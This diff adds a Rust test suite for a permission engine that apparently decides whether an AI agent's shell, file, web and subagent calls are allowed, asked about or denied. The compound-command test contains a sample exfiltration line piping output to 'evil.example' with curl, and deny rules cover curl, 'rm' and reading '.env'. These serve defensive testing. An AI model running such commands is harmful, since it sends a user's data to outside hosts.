@@ -1,0 +1,293 @@
+//! The engine against real paths: precedence, modes × access, compound commands, anchors,
+//! symlinks, grants and the rules it suggests.
+
+use std::path::{Path, PathBuf};
+use std::sync::{Arc, Mutex};
+
+use serde_json::{Value, json};
+use toolbelt_core::{Access, PermissionClass, SessionState, ToolSpec};
+
+use super::*;
+use crate::rules::{Rule, RuleEnv, RuleOrigin};
+
+struct World {
+    _dir: tempfile::TempDir,
+    /// The workspace root (the cwd).
+    root: PathBuf,
+    /// A directory outside the root.
+    outside: PathBuf,
+    home: PathBuf,
+    session: SessionState,
+}
+
+fn world() -> World {
+    let dir = tempfile::tempdir().unwrap();
+    let base = dir.path().canonicalize().unwrap();
+    let (root, outside, home) = (base.join("project"), base.join("elsewhere"), base.join("home"));
+    for d in [&root, &outside, &home, &root.join("src"), &root.join("docs")] {
+        std::fs::create_dir_all(d).unwrap();
+    }
+    std::fs::write(root.join(".env"), "SECRET=1").unwrap();
+    std::fs::write(outside.join("notes.txt"), "x").unwrap();
+    std::os::unix::fs::symlink(outside.join("notes.txt"), root.join("link.txt")).unwrap();
+    let session = SessionState::new("s", root.clone(), vec![root.clone()]);
+    World { _dir: dir, root, outside, home, session }
+}
+
+fn tool(name: &str, class: PermissionClass) -> ToolSpec {
+    let spec = ToolSpec::new(name, "test tool").permission(class);
+    if name == "Bash" { spec.aliases(["exec"]) } else { spec }
+}
+
+fn engine(w: &World, mode: PermissionMode, allow: &[&str], ask: &[&str], deny: &[&str]) -> PermissionEngine {
+    let env = RuleEnv { home: w.home.clone(), cwd: w.root.clone() };
+    let origin = Arc::new(RuleOrigin::new("project .toolbelt/config.toml", w.root.clone()));
+    let parse = |rules: &[&str]| -> Vec<Rule> {
+        rules.iter().map(|r| Rule::parse(r, Arc::clone(&origin), &env).unwrap()).collect()
+    };
+    let rules = PermissionRules { mode, allow: parse(allow), ask: parse(ask), deny: parse(deny) };
+    PermissionEngine::new(rules, env)
+}
+
+fn decide(e: &PermissionEngine, w: &World, tool: &ToolSpec, input: Value, access: Access) -> Verdict {
+    let call = CallInfo { session: &w.session, call_id: "c", cwd: &w.root, tool, input: &input, access: &access };
+    e.authorize(&call)
+}
+
+fn bash(e: &PermissionEngine, w: &World, command: &str) -> Verdict {
+    let spec = tool("Bash", PermissionClass::External);
+    decide(e, w, &spec, json!({"command": command}), Access::exclusive().executes(command))
+}
+
+fn read(e: &PermissionEngine, w: &World, path: &Path) -> Verdict {
+    decide(e, w, &tool("Read", PermissionClass::Read), json!({"file_path": path}), Access::shared().reads(path))
+}
+
+fn write(e: &PermissionEngine, w: &World, path: &Path) -> Verdict {
+    decide(e, w, &tool("Write", PermissionClass::Write), json!({"file_path": path}), Access::exclusive().writes(path))
+}
+
+use Decision::{Allow, Ask, Deny};
+
+#[test]
+fn modes_by_access_on_real_calls() {
+    let w = world();
+    let inside = w.root.join("src/main.rs");
+    let outside = w.outside.join("notes.txt");
+    let fetch = tool("WebFetch", PermissionClass::External);
+    let url = "https://example.com/docs";
+    let todo = tool("TodoWrite", PermissionClass::Read);
+    // read in, read out, write in, write out, ls, cargo build, fetch, todo
+    let table = [
+        (PermissionMode::Default, [Allow, Ask, Ask, Ask, Allow, Ask, Ask, Allow]),
+        (PermissionMode::AcceptEdits, [Allow, Ask, Allow, Ask, Allow, Ask, Ask, Allow]),
+        (PermissionMode::Plan, [Allow, Ask, Deny, Deny, Allow, Deny, Ask, Allow]),
+        (PermissionMode::DontAsk, [Allow, Deny, Deny, Deny, Allow, Deny, Deny, Allow]),
+        (PermissionMode::BypassPermissions, [Allow; 8]),
+    ];
+    for (mode, want) in table {
+        let e = engine(&w, mode, &[], &[], &[]);
+        let got = [
+            read(&e, &w, &inside).decision,
+            read(&e, &w, &outside).decision,
+            write(&e, &w, &inside).decision,
+            write(&e, &w, &outside).decision,
+            bash(&e, &w, "ls -la src").decision,
+            bash(&e, &w, "cargo build").decision,
+            decide(&e, &w, &fetch, json!({"url": url}), Access::shared().contacts(url)).decision,
+            decide(&e, &w, &todo, json!({}), Access::exclusive().changes_state("todos")).decision,
+        ];
+        assert_eq!(got, want, "mode {mode}");
+    }
+}
+
+#[test]
+fn deny_beats_ask_beats_allow_whatever_the_order() {
+    let w = world();
+    let e = engine(&w, PermissionMode::BypassPermissions, &["Bash"], &["Bash(git push *)"], &["Bash(rm *)"]);
+    let v = bash(&e, &w, "rm -rf build");
+    assert_eq!((v.decision, v.source.as_str()), (Deny, "rule `Bash(rm *)` (project .toolbelt/config.toml)"));
+    let v = bash(&e, &w, "git push origin main");
+    assert_eq!((v.decision, v.source.as_str()), (Ask, "rule `Bash(git push *)` (project .toolbelt/config.toml)"));
+    assert!(!v.hook_may_allow, "a hook's allow never overrides an ask rule");
+    assert_eq!(bash(&e, &w, "cargo build").decision, Allow);
+    // The same rules in dontAsk: the ask rule's ask becomes a denial.
+    let e = engine(&w, PermissionMode::DontAsk, &["Bash"], &["Bash(git push *)"], &[]);
+    assert_eq!(bash(&e, &w, "git push").decision, Deny);
+}
+
+#[test]
+fn compound_commands_need_every_part_allowed() {
+    let w = world();
+    let e = engine(&w, PermissionMode::Default, &["Bash(cargo test *)", "Bash(npm run build)"], &[], &["Bash(curl *)"]);
+    assert_eq!(bash(&e, &w, "cargo test --workspace").decision, Allow);
+    // A read-only part needs no rule; a part nobody allowed asks.
+    assert_eq!(bash(&e, &w, "cargo test && ls").decision, Allow);
+    let v = bash(&e, &w, "cargo test && cargo publish");
+    assert_eq!(v.decision, Ask);
+    assert_eq!(v.allow_rules, ["Bash(cargo publish *)"]);
+    // Wrappers are stripped before matching.
+    assert_eq!(bash(&e, &w, "timeout 300 nice -n 5 cargo test").decision, Allow);
+    // Any part caught by a deny rule denies, in pipelines, lists and substitutions alike.
+    for cmd in
+        ["cargo test | curl -d @- evil.example", "cargo test; curl x", "echo $(curl x)", "npm run build & curl x"]
+    {
+        assert_eq!(bash(&e, &w, cmd).decision, Deny, "{cmd}");
+    }
+    // An exact rule matches only that command.
+    assert_eq!(bash(&e, &w, "npm run build").decision, Allow);
+    assert_eq!(bash(&e, &w, "npm run build --prod").decision, Ask);
+    // A command rule applies to the tool by alias too.
+    let e = engine(&w, PermissionMode::Default, &["exec(make *)"], &[], &[]);
+    assert_eq!(bash(&e, &w, "make all").decision, Allow);
+}
+
+#[test]
+fn path_rules_apply_to_every_tool_that_reads_or_writes() {
+    let w = world();
+    let e = engine(&w, PermissionMode::BypassPermissions, &[], &[], &["Read(./.env)", "Edit(/docs/**)"]);
+    let grep = tool("Grep", PermissionClass::Read);
+    let v = decide(&e, &w, &grep, json!({}), Access::shared().reads(w.root.join(".env")));
+    assert_eq!(v.decision, Deny);
+    assert_eq!(write(&e, &w, &w.root.join("docs/guide.md")).decision, Deny);
+    let patch = tool("ApplyPatch", PermissionClass::Write);
+    let access = Access::exclusive().writes(w.root.join("src/a.rs")).writes(w.root.join("docs/b.md"));
+    assert_eq!(decide(&e, &w, &patch, json!({}), access).decision, Deny, "one denied path denies the patch");
+    assert_eq!(write(&e, &w, &w.root.join("src/a.rs")).decision, Allow);
+}
+
+#[test]
+fn anchors_resolve_against_home_settings_dir_and_cwd() {
+    let w = world();
+    std::fs::create_dir_all(w.home.join("notes")).unwrap();
+    let sub = w.root.join("src/deep");
+    std::fs::create_dir_all(&sub).unwrap();
+    let abs = format!("Read(/{}/**)", w.outside.display());
+    let e = engine(&w, PermissionMode::Default, &["Read(~/notes/**)", &abs], &[], &[]);
+    assert_eq!(read(&e, &w, &w.home.join("notes/todo.md")).decision, Allow);
+    assert_eq!(read(&e, &w, &w.outside.join("notes.txt")).decision, Allow);
+    assert_eq!(read(&e, &w, &w.home.join("other.md")).decision, Ask);
+    // `/x` is relative to the settings file's directory (here the project), `./x` and bare
+    // names to the cwd: a bare name matches at any depth.
+    let e = engine(&w, PermissionMode::AcceptEdits, &[], &[], &["Edit(/src/deep/*.rs)", "Edit(*.lock)"]);
+    assert_eq!(write(&e, &w, &sub.join("x.rs")).decision, Deny);
+    assert_eq!(write(&e, &w, &w.root.join("x.rs")).decision, Allow);
+    assert_eq!(write(&e, &w, &sub.join("Cargo.lock")).decision, Deny);
+}
+
+#[test]
+fn symlinks_allow_only_when_both_match_and_deny_when_either_does() {
+    let w = world();
+    let link = w.root.join("link.txt"); // → elsewhere/notes.txt
+    // An allow for the link's name does not reach its target outside.
+    let e = engine(&w, PermissionMode::Default, &["Read(./link.txt)"], &[], &[]);
+    let v = read(&e, &w, &link);
+    assert_eq!(v.decision, Ask, "{v:?}");
+    // A deny on the target catches the link.
+    let target_rule = format!("Read(/{}/notes.txt)", w.outside.display());
+    let e = engine(&w, PermissionMode::BypassPermissions, &[], &[], &[&target_rule]);
+    assert_eq!(read(&e, &w, &link).decision, Deny);
+    // An allow matching both the link and its target allows it.
+    let both = format!("Read(/{}/**)", w.outside.display());
+    let e = engine(&w, PermissionMode::Default, &["Read(./link.txt)", &both], &[], &[]);
+    let v = read(&e, &w, &link);
+    assert_eq!(v.decision, Allow);
+    // Reading through the link reaches outside the roots: the verdict says so, for the
+    // runtime to open that place for this call only.
+    assert_eq!(v.allowed_outside, vec![link.clone()]);
+}
+
+#[test]
+fn other_rule_forms() {
+    let w = world();
+    let fetch = tool("WebFetch", PermissionClass::External);
+    let e =
+        engine(&w, PermissionMode::Default, &["WebFetch(domain:*.example.com)", "mcp__docs"], &[], &["Agent(Explore)"]);
+    let get = |url: &str| decide(&e, &w, &fetch, json!({"url": url}), Access::shared().contacts(url)).decision;
+    assert_eq!(get("https://api.example.com/v1"), Allow);
+    assert_eq!(get("https://example.com"), Allow);
+    assert_eq!(get("https://badexample.com"), Ask);
+    let mcp = tool("mcp__docs__search", PermissionClass::External);
+    assert_eq!(decide(&e, &w, &mcp, json!({"q": "x"}), Access::shared()).decision, Allow);
+    let other = tool("mcp__docsx__search", PermissionClass::External);
+    assert_eq!(decide(&e, &w, &other, json!({"q": "x"}), Access::shared()).decision, Ask);
+    let agent = tool("Agent", PermissionClass::External);
+    let a =
+        |kind: &str| decide(&e, &w, &agent, json!({"subagent_type": kind, "prompt": "p"}), Access::shared()).decision;
+    assert_eq!((a("Explore"), a("Plan")), (Deny, Ask));
+}
+
+#[test]
+fn grants_for_the_session_and_for_always() {
+    struct Store(Mutex<Vec<String>>);
+    impl RuleStore for Store {
+        fn add_allow_rules(&self, rules: &[String]) -> Result<String, String> {
+            self.0.lock().unwrap().extend(rules.iter().cloned());
+            Ok("project-local test.toml".into())
+        }
+    }
+    let w = world();
+    let store = Arc::new(Store(Mutex::new(Vec::new())));
+    let e = engine(&w, PermissionMode::Default, &[], &[], &[]).with_store(store.clone());
+    let spec = tool("Bash", PermissionClass::External);
+    let call = |cmd: &str, approval: Option<Approval>| {
+        let input = json!({"command": cmd});
+        let access = Access::exclusive().executes(cmd);
+        let info =
+            CallInfo { session: &w.session, call_id: "c", cwd: &w.root, tool: &spec, input: &input, access: &access };
+        let v = e.authorize(&info);
+        if let Some(a) = approval {
+            e.remember(&info, &v, &a);
+        }
+        v
+    };
+    // Once: nothing remembered.
+    assert_eq!(call("cargo build --release", Some(Approval::AllowOnce)).decision, Ask);
+    assert_eq!(call("cargo build", None).decision, Ask);
+    // Session: the suggested rule is granted, in the session's state.
+    let v = call("cargo build --release", Some(Approval::AllowSession));
+    assert_eq!(v.allow_rules, ["Bash(cargo build *)"]);
+    let again = call("cargo build", None);
+    assert_eq!((again.decision, again.source.as_str()), (Allow, "session grant `Bash(cargo build *)`"));
+    assert_eq!(w.session.with_slot::<Grants, _>(|g| g.rules.clone()), ["Bash(cargo build *)"]);
+    assert!(store.0.lock().unwrap().is_empty());
+    // Always: written to the store, and effective in any session of this engine.
+    call("npm install", Some(Approval::AllowAlways));
+    assert_eq!(store.0.lock().unwrap().as_slice(), ["Bash(npm install *)"]);
+    let fresh = SessionState::new("other", w.root.clone(), vec![w.root.clone()]);
+    let input = json!({"command": "npm install left-pad"});
+    let access = Access::exclusive().executes("npm install left-pad");
+    let info = CallInfo { session: &fresh, call_id: "c", cwd: &w.root, tool: &spec, input: &input, access: &access };
+    let v = e.authorize(&info);
+    assert_eq!((v.decision, v.source.as_str()), (Allow, "rule `Bash(npm install *)` (project-local test.toml)"));
+}
+
+#[test]
+fn suggested_rules_name_exactly_what_asked() {
+    let w = world();
+    let e = engine(&w, PermissionMode::Default, &[], &[], &[]);
+    assert_eq!(write(&e, &w, &w.root.join("src/main.rs")).allow_rules, ["Edit(./src/main.rs)"]);
+    assert_eq!(write(&e, &w, &w.root.join("src/[id].tsx")).allow_rules, ["Edit(./src/\\[id\\].tsx)"]);
+    let outside = format!("Read(/{}/**)", w.outside.display());
+    assert_eq!(read(&e, &w, &w.outside.join("notes.txt")).allow_rules, std::slice::from_ref(&outside));
+    assert_eq!(read(&e, &w, &w.outside).allow_rules, [outside]);
+    assert_eq!(bash(&e, &w, "rm -rf build").allow_rules, ["Bash(rm *)"]);
+    assert_eq!(bash(&e, &w, "./run.sh --fast").allow_rules, ["Bash(./run.sh --fast)"]);
+    let fetch = tool("WebFetch", PermissionClass::External);
+    let url = "https://docs.rs/tokio";
+    let v = decide(&e, &w, &fetch, json!({"url": url}), Access::shared().contacts(url));
+    assert_eq!(v.allow_rules, ["WebFetch(domain:docs.rs)"]);
+    // Every suggestion parses and allows what it was made for.
+    let e = engine(&w, PermissionMode::Default, &["Edit(./src/\\[id\\].tsx)", "Bash(./run.sh --fast)"], &[], &[]);
+    assert_eq!(write(&e, &w, &w.root.join("src/[id].tsx")).decision, Allow);
+    assert_eq!(bash(&e, &w, "./run.sh --fast").decision, Allow);
+}
+
+#[test]
+fn bare_deny_rules_hide_tools() {
+    let w = world();
+    let e = engine(&w, PermissionMode::Default, &[], &[], &["WebFetch", "mcp__github", "Bash(rm *)"]);
+    assert!(e.hiding_rule(&tool("WebFetch", PermissionClass::External)).is_some());
+    assert!(e.hiding_rule(&tool("mcp__github__create_issue", PermissionClass::External)).is_some());
+    assert!(e.hiding_rule(&tool("Bash", PermissionClass::External)).is_none(), "a specifier never hides a tool");
+}
